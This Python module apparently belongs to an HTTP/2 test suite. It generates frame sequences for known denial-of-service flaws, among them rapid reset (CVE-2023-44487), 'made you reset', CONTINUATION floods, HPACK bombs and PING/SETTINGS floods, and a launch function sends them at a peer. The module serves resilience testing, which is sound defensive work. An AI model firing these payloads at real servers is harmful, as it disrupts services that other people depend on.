"""What a hostile HTTP/2 peer sends, be it the one that asks or the one that answers."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator, Sequence

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.e2e.stack.http2 import Http2

_HEAD = [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/hello")]
_POST = [(":method", "POST"), *_HEAD[1:3], (":path", "/hash")]
_SECONDS = 15.0
_CANCEL = 8


def rapid_reset() -> Iterator[Frame]:
    """CVE-2023-44487: streams that are cancelled as soon as they are opened."""
    block = Encoder().encode(_HEAD)
    for stream in range(1, 20_001, 2):
        yield HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"])
        yield RstStreamFrame(stream, _CANCEL)


def made_you_reset() -> Iterator[Frame]:
    """CVE-2025-8671: streams that the server itself must reset, for a window update of nothing."""
    return _opened(lambda stream: _Raw(WindowUpdateFrame(stream, 1).serialize()[:-4] + bytes(4)))


def overflowing_windows() -> Iterator[Frame]:
    """The same by a window beyond 2^31-1."""
    return _opened(lambda stream: WindowUpdateFrame(stream, (1 << 31) - 1))


def headers_after_the_end() -> Iterator[Frame]:
    """The same by a request that goes on after its end."""
    block = Encoder().encode(_HEAD)
    return _opened(lambda stream: HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]), end=True)


def data_after_the_end() -> Iterator[Frame]:
    """The same by a body after the end."""
    return _opened(lambda stream: DataFrame(stream, b"x", flags=["END_STREAM"]), end=True)


def short_priorities() -> Iterator[Frame]:
    """The same by a PRIORITY of another length than five."""
    return _opened(lambda stream: _Raw(b"\0\0\4\2\0" + stream.to_bytes(4, "big") + bytes(4)))


def streams_on_themselves() -> Iterator[Frame]:
    """The same by a stream that depends on itself."""
    return _opened(lambda stream: PriorityFrame(stream, depends_on=stream))


def longer_bodies() -> Iterator[Frame]:
    """The same by a body that is longer than it said."""
    more = [("content-length", "1")]
    return _opened(lambda stream: DataFrame(stream, b"four", flags=["END_STREAM"]), more)


def _opened(
    then: Callable[[int], Frame], more: Sequence[tuple[str, str]] = (), *, end: bool = False
) -> Iterator[Frame]:
    block = Encoder().encode([*_POST, *more])
    flags = ["END_HEADERS", "END_STREAM"] if end else ["END_HEADERS"]
    for stream in range(1, 20_001, 2):
        yield HeadersFrame(stream, block, flags=flags)
        yield then(stream)


def continuation_flood() -> Iterator[Frame]:
    """RUSTSEC-2024-0332: a header block without an end."""
    yield HeadersFrame(1, Encoder().encode(_HEAD))
    part = Encoder().encode([("x-more", "x" * 15_000)], huffman=False)
    for _ in range(20_000):
        yield ContinuationFrame(1, part)


def empty_continuations() -> Iterator[Frame]:
    """The same, but nothing in it."""
    yield HeadersFrame(1, Encoder().encode(_HEAD))
    for _ in range(100_000):
        yield ContinuationFrame(1, b"")


def hpack_bomb() -> Iterator[Frame]:
    """CVE-2016-6581: one large field and many one-byte references to it."""
    encoder = Encoder()
    block = encoder.encode([*_HEAD, ("x-bomb", "x" * 4000)], huffman=False)
    again = encoder.encode([("x-bomb", "x" * 4000)])
    assert len(again) == 1
    for stream in range(1, 201, 2):
        head = block if stream == 1 else encoder.encode(_HEAD)
        yield HeadersFrame(stream, head + again * 12_000, flags=["END_HEADERS", "END_STREAM"])


def empty_data() -> Iterator[Frame]:
    """RUSTSEC-2026-0258: a body of nothing, without an end."""
    yield HeadersFrame(1, Encoder().encode(_POST), flags=["END_HEADERS"])
    for _ in range(100_000):
        yield DataFrame(1, b"")


def pings() -> Iterator[Frame]:
    """CVE-2019-9512: more answers than are ever read."""
    for number in range(200_000):
        yield PingFrame(0, number.to_bytes(8, "big"))


def settings() -> Iterator[Frame]:
    """CVE-2019-9515: the same with SETTINGS."""
    for _ in range(200_000):
        yield SettingsFrame(0, {})


ATTACKS: dict[str, Callable[[], Iterator[Frame]]] = {
    "rapid reset": rapid_reset,
    "made you reset": made_you_reset,
    "continuation flood": continuation_flood,
    "empty continuations": empty_continuations,
    "HPACK bomb": hpack_bomb,
    "empty data": empty_data,
    "pings": pings,
    "settings": settings,
}

TRIGGERS: dict[str, Callable[[], Iterator[Frame]]] = {
    "a window update of nothing": made_you_reset,
    "windows that overflow": overflowing_windows,
    "headers after the end": headers_after_the_end,
    "data after the end": data_after_the_end,
    "priorities that are too short": short_priorities,
    "streams that depend on themselves": streams_on_themselves,
    "bodies that are too long": longer_bodies,
}
"""Whatever makes a server reset a stream by itself (CVE-2025-8671)."""


# Of one who answers; stream 1 is asked for.

_OK = [(":status", "200")]


def answers_without_an_end() -> Iterator[Frame]:
    """RUSTSEC-2024-0332 the other way round."""
    yield HeadersFrame(1, Encoder().encode(_OK))
    part = Encoder().encode([("x-more", "x" * 15_000)], huffman=False)
    for _ in range(20_000):
        yield ContinuationFrame(1, part)


def bombs_for_answers() -> Iterator[Frame]:
    """CVE-2016-6581 the other way round, before the answer proper, again and again."""
    encoder = Encoder()
    first = encoder.encode([(":status", "103"), ("x-bomb", "x" * 4000)], huffman=False)
    again = encoder.encode([("x-bomb", "x" * 4000)])
    yield HeadersFrame(1, first, flags=["END_HEADERS"])
    for _ in range(200):
        yield HeadersFrame(1, encoder.encode([(":status", "103")]) + again * 12_000, flags=["END_HEADERS"])


def early_hints() -> Iterator[Frame]:
    """Informational answers without an end (RFC 9110, section 15.2)."""
    encoder = Encoder()
    for _ in range(100_000):
        block = encoder.encode([(":status", "103"), ("link", "</x>; rel=preload")])
        yield HeadersFrame(1, block, flags=["END_HEADERS"])


def promises() -> Iterator[Frame]:
    """Pushes, of which nobody wants any."""
    block = Encoder().encode(_HEAD)
    for stream in range(2, 20_002, 2):
        yield PushPromiseFrame(1, stream, block, flags=["END_HEADERS"])


def empty_answers() -> Iterator[Frame]:
    """RUSTSEC-2026-0258 the other way round."""
    yield HeadersFrame(1, Encoder().encode(_OK), flags=["END_HEADERS"])
    for _ in range(100_000):
        yield DataFrame(1, b"")


def small_windows() -> Iterator[Frame]:
    """Credit by single bytes."""
    for _ in range(200_000):
        yield WindowUpdateFrame(0, 1)


def farewells() -> Iterator[Frame]:
    """GOAWAY that never goes."""
    for _ in range(100_000):
        yield GoAwayFrame(0, last_stream_id=1)


def unknown_frames() -> Iterator[Frame]:
    """Kinds that must be ignored (RFC 9113, section 5.5)."""
    for _ in range(100_000):
        yield ExtensionFrame(0xF0, 0, flag_byte=0, body=b"nothing")


ANSWERS: dict[str, Callable[[], Iterator[Frame]]] = {
    "answers without an end": answers_without_an_end,
    "HPACK bombs": bombs_for_answers,
    "early hints": early_hints,
    "promises": promises,
    "empty answers": empty_answers,
    "small windows": small_windows,
    "farewells": farewells,
    "unknown frames": unknown_frames,
    "pings": pings,
    "settings": settings,
}


def launch(attack: Callable[[], Iterator[Frame]], attacker: Http2) -> int:
    """Sends it all, reading nothing, until the peer ends the connection or reads no more; says how much."""
    sent = 0
    deadline = time.monotonic() + _SECONDS
    attacker.transport.settimeout(1)
    batch = b""
    for frame in attack():
        batch += frame.serialize()
        if len(batch) < 65536:
            continue
        try:
            attacker.transport.sendall(batch)
        except OSError:
            # Ended, or a peer that waits for us to read.
            return sent
        sent += len(batch)
        batch = b""
        if time.monotonic() > deadline:
            return sent
    return sent


class _Raw(Frame):
    """A frame that the library would not make."""

    def __init__(self, data: bytes) -> None:
        super().__init__(1)
        self._data = data

    def serialize(self) -> bytes:
        return self._data
